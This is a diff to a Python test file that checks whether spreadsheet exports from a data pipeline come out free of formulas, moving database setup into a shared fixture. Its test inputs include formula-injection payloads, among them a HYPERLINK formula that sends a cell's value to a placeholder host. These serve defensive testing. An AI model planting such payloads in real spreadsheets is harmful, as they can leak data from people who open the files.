@@ -8,7 +8,6 @@ import csv
 import json
 from pathlib import Path
 
-import duckdb
 import pytest
 import xlsxwriter
 from python_calamine import CalamineWorkbook
@@ -17,6 +16,7 @@ from orchestration.exports.common import FORMULA_TRIGGERS, guard_formula
 from orchestration.exports.feedback import write_feedback_workbooks
 from orchestration.exports.kelurahan import Column, _Writer
 from orchestration.exports.open_data import OpenDataReport, write_report
+from tests.serving.test_feedback import feedback_tables
 
 HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 
@@ -69,26 +69,13 @@ def test_no_export_carries_a_formula(tmp_path):
     )
     book.close()
     # The feedback workbook: the failing value and the row's original free text.
-    connection = duckdb.connect()
-    connection.execute("create schema quarantine; create schema raw; create schema staging")
-    connection.execute(
-        "create table quarantine.quarantined_rows (source varchar, source_file varchar, period varchar, "
-        "row_number integer, reason_code varchar, reason_text varchar, failed_column varchar, failed_value varchar, "
-        "raw_values varchar)"
-    )
+    connection = feedback_tables()
     for number, text in enumerate(HOSTILE):
         connection.execute(
             "insert into quarantine.quarantined_rows values ('mitra', ?, '2025-03', ?, 'invalid_nik', "
             "'NIK tidak valid', 'nik_penerima', ?, ?)",
             [f"mitra/2025-03/{text}.xlsx", number, text, json.dumps({"nama_penerima": text, "alamat": text})],
         )
-    connection.execute(
-        "create table raw.ingested_files (source varchar, period varchar, source_file varchar, status varchar, "
-        "reason_code varchar, reason_message varchar)"
-    )
-    connection.execute(
-        "create table staging.stg_row_outcomes (source varchar, _source_file varchar, _period varchar, outcome varchar)"
-    )
     write_feedback_workbooks(connection, exports)
     # Open data: a region named by an agency, a negative difference that stays a number.
     report = OpenDataReport(table="rpt_hostile", keys=("region",), counts=("families",), plain=("change",))
